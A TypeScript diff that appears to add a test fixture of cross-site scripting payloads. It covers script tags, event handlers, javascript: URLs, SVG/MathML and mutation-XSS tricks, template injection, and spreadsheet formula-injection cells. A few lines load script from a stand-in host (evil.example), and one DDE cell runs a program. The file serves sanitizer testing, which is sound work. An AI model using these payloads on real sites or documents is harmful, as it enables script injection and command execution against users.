@@ -1,0 +1,217 @@
+// Text that runs as a script, or changes a page, wherever something lets it: what a feed, a page or a form may hold.
+// Each calls `hit()`, which a browser under test counts, or `alert()`, which it hears of.
+
+const tags = [
+  '<script>hit()</script>',
+  '<SCRIPT>hit()</SCRIPT>',
+  '<script >hit()</script >',
+  '<script\n>hit()</script\n>',
+  '<script/x>hit()</script>',
+  '<script src=//evil.example/a.js></script>',
+  '<script src="data:text/javascript,hit()"></script>',
+  '<script type=module>hit()</script>',
+  '<script async nonce="">hit()</script>',
+  '<scr<script>ipt>hit()</scr</script>ipt>',
+  '<<script>hit();//<</script>',
+  '</script><script>hit()</script>',
+  '</title><script>hit()</script>',
+  '</textarea><script>hit()</script>',
+  '</style><script>hit()</script>',
+  '</noscript><script>hit()</script>',
+  '</option></select><script>hit()</script>',
+  '</template><script>hit()</script>',
+  '<template><script>hit()</script></template>',
+  '<iframe src="javascript:hit()"></iframe>',
+  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
+  '<object data="javascript:hit()"></object>',
+  '<object data="data:text/html,<script>parent.hit()</script>"></object>',
+  '<embed src="javascript:hit()">',
+  '<applet code="javascript:hit()"></applet>',
+  '<base href="javascript:/a/-hit()//">',
+  '<base href="//evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=javascript:hit()">',
+  '<link rel="stylesheet" href="data:text/css,*{color:red}">',
+  '<link rel="import" href="data:text/html,<script>hit()</script>">',
+  '<frameset onload="hit()"><frame></frameset>',
+  '<portal src="javascript:hit()"></portal>',
+];
+
+const attributes = [
+  '<img src=x onerror=hit()>',
+  '<img src=x onerror="hit()">',
+  "<img src=x onerror='hit()'>",
+  '<img src=x onerror=`hit()`>',
+  '<img/src/onerror=hit()>',
+  '<img src=x:hit() onerror=eval(src)>',
+  '<img src=x oneonerrorrror=hit()>',
+  '<img """><script>hit()</script>">',
+  '<IMG SRC=x ONERROR=hit()>',
+  '<image src=x onerror=hit()>',
+  '<body onload=hit()>',
+  '<input autofocus onfocus=hit()>',
+  '<select autofocus onfocus=hit()>',
+  '<textarea autofocus onfocus=hit()>',
+  '<button autofocus onfocus=hit()>x</button>',
+  '<details open ontoggle=hit()><summary>x</summary></details>',
+  '<dialog open onclose=hit()>x</dialog>',
+  '<p popover id=p onbeforetoggle=hit()>x</p><button popovertarget=p>y</button>',
+  '<video><source onerror=hit()></video>',
+  '<video src=x onerror=hit()></video>',
+  '<audio src=x onerror=hit()></audio>',
+  '<marquee onstart=hit()>x</marquee>',
+  '<a onmouseover=hit()>x</a>',
+  '<a tabindex=0 onfocusin=hit() autofocus>x</a>',
+  '<div onpointerenter=hit()>x</div>',
+  '<p style="animation:x" onanimationstart=hit()>x</p>',
+  '<form oninput=hit()><input></form>',
+  '<isindex action="javascript:hit()" type=image>',
+  '"onmouseover="hit()',
+  "'onmouseover='hit()",
+  '" autofocus onfocus="hit()',
+  "' autofocus onfocus='hit()",
+  '` autofocus onfocus=`hit()',
+  ' autofocus onfocus=hit() x=',
+  '"><img src=x onerror=hit()>',
+  "'><img src=x onerror=hit()>",
+  '`><img src=x onerror=hit()>',
+  '"/><svg onload=hit()>',
+  '--><img src=x onerror=hit()>',
+  '--!><img src=x onerror=hit()>',
+  ']]><img src=x onerror=hit()>',
+  '?><img src=x onerror=hit()>',
+];
+
+const addresses = [
+  '<a href="javascript:hit()">x</a>',
+  '<a href="JaVaScRiPt:hit()">x</a>',
+  '<a href="java\tscript:hit()">x</a>',
+  '<a href="java\nscript:hit()">x</a>',
+  '<a href="&#106;avascript:hit()">x</a>',
+  '<a href="javascript&colon;hit()">x</a>',
+  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;hit()">x</a>',
+  '<a href=" javascript:hit()">x</a>',
+  '<a href="\u0001javascript:hit()">x</a>',
+  '<a href="vbscript:hit()">x</a>',
+  '<a href="data:text/html,<script>hit()</script>">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">x</a>',
+  '<form action="javascript:hit()"><button>x</button></form>',
+  '<form><button formaction="javascript:hit()">x</button></form>',
+  '<a href="javascript://evil.example/%0ahit()">x</a>',
+  '[x](javascript:hit())',
+  '![x](x"onerror="hit())',
+  '<javascript:hit()>',
+  'javascript:hit()//',
+];
+
+const svg = [
+  '<svg onload=hit()>',
+  '<svg/onload=hit()>',
+  '<svg><script>hit()</script></svg>',
+  '<svg><script href="data:,hit()"/></svg>',
+  '<svg><script>hit&#40;&#41;</script></svg>',
+  '<svg><a xlink:href="javascript:hit()"><text x=9 y=9>x</text></a></svg>',
+  '<svg><animate onbegin=hit() attributeName=x dur=1s></svg>',
+  '<svg><set attributeName=href to=javascript:hit()></svg>',
+  '<svg><a><animate attributeName=href values=javascript:hit() /><text y=9>x</text></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x onload=hit()></svg>#x"/></svg>',
+  '<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>',
+  '<svg><style><img src=x onerror=hit()></style></svg>',
+  '<svg><desc><img src=x onerror=hit()></desc></svg>',
+  '</text><script>hit()</script><text>',
+  '</svg><script>hit()</script>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>',
+  '<math href="javascript:hit()">x</math>',
+  '<math><maction actiontype="statusline#http://e" xlink:href="javascript:hit()">x</maction></math>',
+  '<math><annotation-xml encoding="text/html"><script>hit()</script></annotation-xml></math>',
+];
+
+/** Harmless to one parser and not to the next: what is put together a second time. */
+const mutations = [
+  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
+  '<p title="<!--"><img src="--><img src=x onerror=hit()>">',
+  '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>',
+  '<xmp><p title="</xmp><img src=x onerror=hit()>">',
+  '<listing>&lt;img src=x onerror=hit()&gt;</listing>',
+  '<noembed><img title="</noembed><img src=x onerror=hit()>">',
+  '<plaintext><script>hit()</script>',
+  '<select><style></select><img src=x onerror=hit()></style>',
+  '<a id="`><img src=x onerror=hit()>`">',
+  '<!--><script>hit()</script>-->',
+  '<!-- > --!><script>hit()</script>',
+  '<![CDATA[<script>hit()</script>]]>',
+  '<?xml version="1.0"?><?xml-stylesheet href="javascript:hit()"?>',
+  '<!DOCTYPE x [<!ENTITY e "<script>hit()</script>">]>&e;',
+  '&lt;script&gt;hit()&lt;/script&gt;',
+  '&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;',
+  '&#60;script&#62;hit()&#60;/script&#62;',
+  '&#x3c;img src=x onerror=hit()&#x3e;',
+  '%3Cscript%3Ehit()%3C/script%3E',
+  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
+  '\\x3cscript\\x3ehit()\\x3c/script\\x3e',
+  '+ADw-script+AD4-hit()+ADw-/script+AD4-',
+  '＜script＞hit()＜/script＞',
+  '‹script›hit()‹/script›',
+  '\u00bcscript\u00behit()\u00bc/script\u00be',
+  '<scr\u0000ipt>hit()</scr\u0000ipt>',
+  '<img src=x on\u0000error=hit()>',
+  '<\u0000script>hit()</script>',
+  '\u202e<script>hit()</script>\u202c',
+  '\u2066<img src=x onerror=hit()>\u2069',
+  '<img\u000bsrc=x\u000conerror=hit()>',
+  '<img src=x\u00a0onerror=hit()>',
+  '\u2028<script>hit()</script>\u2029',
+  '\ufeff<script>hit()</script>',
+  '<ſcript>hit()</ſcript>',
+  '<\u0130mg src=x onerror=hit()>',
+];
+
+/** What a template, a script or a style would make of it. */
+const languages = [
+  '{{constructor.constructor("hit()")()}}',
+  '{{7*7}}<img src=x onerror=hit()>',
+  '$' + '{hit()}',
+  '#{hit()}',
+  '<%= hit() %>',
+  '{%raw%}<script>hit()</script>{%endraw%}',
+  '"};hit();//',
+  "';hit();//",
+  '`;hit();//',
+  '</script><img src=x onerror=hit()>',
+  '{"__proto__":{"x":"<script>hit()</script>"}}',
+  '<!--<script>hit()//-->',
+  '*{background:url(javascript:hit())}',
+  '</style><img src=x onerror=hit()>',
+  'expression(hit())',
+  '<style>@import "data:text/css,*{}";</style>',
+  '<div style="background:url(javascript:hit())">x</div>',
+  '<div style="position:fixed;inset:0;z-index:9999">x</div>',
+  '<xss style="behavior:url(#default#time2)" onbegin="hit()">',
+  '"><script>alert(1)</script>',
+  "<img src=x onerror=alert('1')>",
+  'alert`1`',
+];
+
+/** Every one of them, each once. */
+export const hostileTexts: readonly string[] = [
+  ...new Set([...tags, ...attributes, ...addresses, ...svg, ...mutations, ...languages]),
+];
+
+/** All that one field may hold, in texts of up to so many characters. */
+export function hostileChunks(chars: number): string[] {
+  const chunks: string[] = [];
+  for (const text of hostileTexts) {
+    const last = chunks.at(-1);
+    if (last !== undefined && last.length + text.length < chars)
+      chunks[chunks.length - 1] = `${last} ${text}`;
+    else chunks.push(text);
+  }
+  return chunks;
+}
+
+/** Cells that a spreadsheet would take for a formula. */
+export const formulas = [
+  ...['=1+1', '=cmd|"/c calc"!A1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1'],
+  ...['－1', '＠SUM(1)', '=HYPERLINK("https://evil.example","x")', '"=1+1', ' =1+1', "'=1+1", '","=1+1'],
+  ...['=1+1;=2', '\u0000=1+1', '\ufeff=1+1', '\u200b=1+1', '\u00a0=1+1', '%0A=1+1', ';=1+1', '|=1+1'],
+];
